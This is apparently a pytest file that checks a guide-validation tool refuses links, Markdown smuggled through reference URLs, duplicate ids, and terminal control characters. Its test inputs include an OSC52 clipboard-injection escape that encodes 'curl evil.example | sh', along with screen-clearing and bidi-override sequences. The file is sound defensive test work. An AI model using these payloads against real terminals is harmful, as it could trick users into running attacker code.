"""What a guide file may not do: link or show images from prose, smuggle Markdown through a
reference URL, replace another guide by reusing its id, or reach the terminal with control
characters. Each is tried through `python -m kb` and the app, as an author would."""
from __future__ import annotations

import logging
import shutil
from pathlib import Path

import pytest
import yaml

from kb.cli import main, printable
from kb.engine.index import load_index
from tests.conftest import ROOT
from tests.test_hostile import GOOD, GOOD_ID, _set, app, kb_with, no_crash, shown, variant

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh" to the clipboard
CONTROLS = [OSC52, "\x1b[2J\x1b[H", "\x9b31m", "\x07", "\r", "\x08", "\u202e"]


def validate(root: Path, capsys) -> tuple[int, str]:
    code = main(["validate", str(root)])
    out = capsys.readouterr()
    return code, out.out + out.err


# ---------------------------------------------------------------- links and images in prose ---------

LINKS = {
    "bare http:// in the summary": ("summary.en", "See http://evil.example/fix for the fix."),
    "bare https:// in a symptom": ("symptoms.0.en", "Then https://evil.example/x opens."),
    "www. in a step": ("steps.0.text.en", "Download it from www.evil.example today."),
    "mailto: in the fastest fix": ("fastest_fix.en", "Write to mailto:help@evil.example now."),
    "e-mail address in a cause": ("causes.0.text.en", "Ask alice@evil.example about it."),
    "https Markdown link in a caveat": ("summary.zh", "见 [文档](https://evil.example/docs)。"),
    "foreign image in prose": ("summary.en", "Look: ![status](https://evil.example/pixel.png)"),
}


@pytest.mark.parametrize("name", list(LINKS))
def test_validate_refuses_every_link_and_image_in_prose(tmp_path, capsys, name):
    where, text = LINKS[name]
    root = kb_with(tmp_path, {"evil-link": lambda gid: variant(gid, _set(where, text))})
    code, out = validate(root, capsys)
    assert code == 1
    field = where.rsplit(".", 1)[0]
    assert any("evil-link.yaml" in line and field in line and ("link" in line or "image" in line) for line in out.splitlines()), out
    assert "evil-link" not in load_index(root).guides


@pytest.mark.parametrize("url", ["https://x.example/a)![pixel](https://evil.example/p.png)",
                                 "https://x.example/a)[more](https://evil.example)", "https://github.com@evil.example/"])
def test_validate_refuses_markdown_through_a_reference_url(tmp_path, capsys, url):
    root = kb_with(tmp_path, {"evil-ref": lambda gid: variant(gid, _set("references.0.url", url))})
    code, out = validate(root, capsys)
    assert code == 1 and any("evil-ref.yaml" in line and "references.0.url" in line for line in out.splitlines()), out


def test_the_app_renders_reference_urls_itself():
    at = app(guide=GOOD_ID)
    no_crash(at)
    data = yaml.safe_load(GOOD.read_text(encoding="utf-8"))
    urls = [r["url"] for r in data["references"] if r.get("url")]
    assert urls
    links = {p.proto.page for p in at.get("page_link")}
    assert set(urls) <= links  # a link widget, whose URL is an attribute
    for md in at.markdown:
        assert not any(u in str(md.value) for u in urls), md.value  # never a Markdown link


# ---------------------------------------------------------------- a duplicate id ---------------------

@pytest.fixture
def duplicated(tmp_path) -> Path:
    """The real knowledge base, plus a copy of pytorch/cuda-oom.yaml as cuda/cuda-oom.yaml."""
    root = tmp_path / "guides"
    shutil.copytree(ROOT / "guides", root)
    text = (root / "pytorch" / "cuda-oom.yaml").read_text(encoding="utf-8")
    assert "component: pytorch" in text
    (root / "cuda" / "cuda-oom.yaml").write_text(text.replace("component: pytorch", "component: cuda", 1), encoding="utf-8")
    return root


def test_a_duplicate_id_is_served_by_neither_file(duplicated, capsys):
    index = load_index(duplicated)
    assert "cuda-oom" not in index.guides
    assert not any(p.guide == "cuda-oom" for p in index.patterns)
    problems = [str(p) for p in index.problems if "duplicate id 'cuda-oom'" in p.message]
    assert len(problems) == 2 and all("cuda/cuda-oom.yaml" in p and "pytorch/cuda-oom.yaml" in p for p in problems), problems
    code, out = validate(duplicated, capsys)
    assert code == 1 and "cuda/cuda-oom.yaml" in out and "pytorch/cuda-oom.yaml" in out
    assert main(["show", "cuda-oom", "--guides", str(duplicated)]) == 2
    assert "No guide with id 'cuda-oom'" in capsys.readouterr().err
    # Whichever order the files are read in, the others are served as before.
    assert len(index.guides) == len(load_index(ROOT / "guides").guides) - 1


def test_the_app_serves_neither_and_logs_why(duplicated, monkeypatch, caplog, tmp_path):
    from components.state import get_index
    monkeypatch.setenv("KB_GUIDES_DIR", str(duplicated))
    monkeypatch.setenv("KB_CACHE_DIR", str(tmp_path / "cache"))
    get_index.clear()
    try:
        with caplog.at_level(logging.WARNING, logger="kb.app"):
            at = app(guide="cuda-oom")
        no_crash(at)
        assert "There is no guide with this id." in "\n".join(shown(at))
        logged = "\n".join(r.getMessage() for r in caplog.records)
        assert "duplicate id 'cuda-oom'" in logged and "cuda/cuda-oom.yaml" in logged and "pytorch/cuda-oom.yaml" in logged
    finally:
        get_index.clear()


# ---------------------------------------------------------------- control characters ----------------

@pytest.mark.parametrize("where", ["title.en", "summary.zh", "steps.0.commands", "raw_errors.0.note", "references.0.title",
                                   "signatures.0.template", "tags"])
@pytest.mark.parametrize("control", CONTROLS, ids=repr)
def test_validate_refuses_control_characters_in_guide_text(tmp_path, capsys, where, control):
    def change(data):
        value = {"steps.0.commands": ["nvidia-smi" + control], "tags": ["cuda" + control]}.get(where, "Text " + control + " more")
        _set(where, value)(data)
    root = kb_with(tmp_path, {"evil-control": lambda gid: variant(gid, change)})
    code, out = validate(root, capsys)
    assert code == 1 and "evil-control.yaml" in out and "control characters" in out, out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out


def test_raw_errors_keep_colour_codes_and_nothing_else(tmp_path, capsys):
    def coloured(data):
        data["raw_errors"][0]["text"] = "\x1b[1;31mERROR\x1b[0m " + data["raw_errors"][0]["text"]
    root = kb_with(tmp_path, {"colour": lambda gid: variant(gid, coloured),
                              "evil-osc": lambda gid: variant(gid, _set("raw_errors.0.text", "x" + OSC52))})
    index = load_index(root)
    assert "colour" in index.guides and "evil-osc" not in index.guides
    assert any("evil-osc.yaml" in p.path and "U+001B" in p.message for p in index.problems)


def test_nothing_the_command_line_prints_reaches_the_terminal_raw(tmp_path, capsys):
    # A file name with escapes, a paste with them: validate, list, show and match print neither.
    root = kb_with(tmp_path, {})
    (root / "vllm" / f"evil{OSC52}\x9b2J.yaml").write_text("id: x\n", encoding="utf-8")
    paste = tmp_path / "paste.txt"
    paste.write_text(f"RuntimeError: CUDA error: an illegal memory access was encountered {OSC52}\x9b2J\u202e\n", encoding="utf-8")
    outputs = []
    for argv in (["validate", str(root)], ["list", "--guides", str(root)], ["show", GOOD_ID, "--guides", str(root)],
                 ["match", str(paste)], ["match", "--json", str(paste)], ["explain", GOOD_ID, str(paste)],
                 ["show", f"no-such{OSC52}"], ["list", "--lang", f"x{OSC52}"]):
        try:
            main(argv)
        except SystemExit:
            pass  # argparse refuses the language, on standard error
        captured = capsys.readouterr()
        outputs.append(captured.out + captured.err)
    everything = "".join(outputs)
    assert "evil" in outputs[0]  # the bad file is still named
    for control in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert control not in everything


@pytest.mark.parametrize("text, expected", [
    (f"a{OSC52}b", "ab"), ("\x1b[31mred\x1b[0m", "red"), ("x\x9b2Jy", "xy"), ("tab\tand\nline", "tab\tand\nline"),
    ("\x1bP1;2|secret\x1b\\z", "z"), ("cr\roverwrite", "croverwrite"), ("中文\u202eevil", "中文evil"),
])
def test_printable(text, expected):
    assert printable(text) == expected
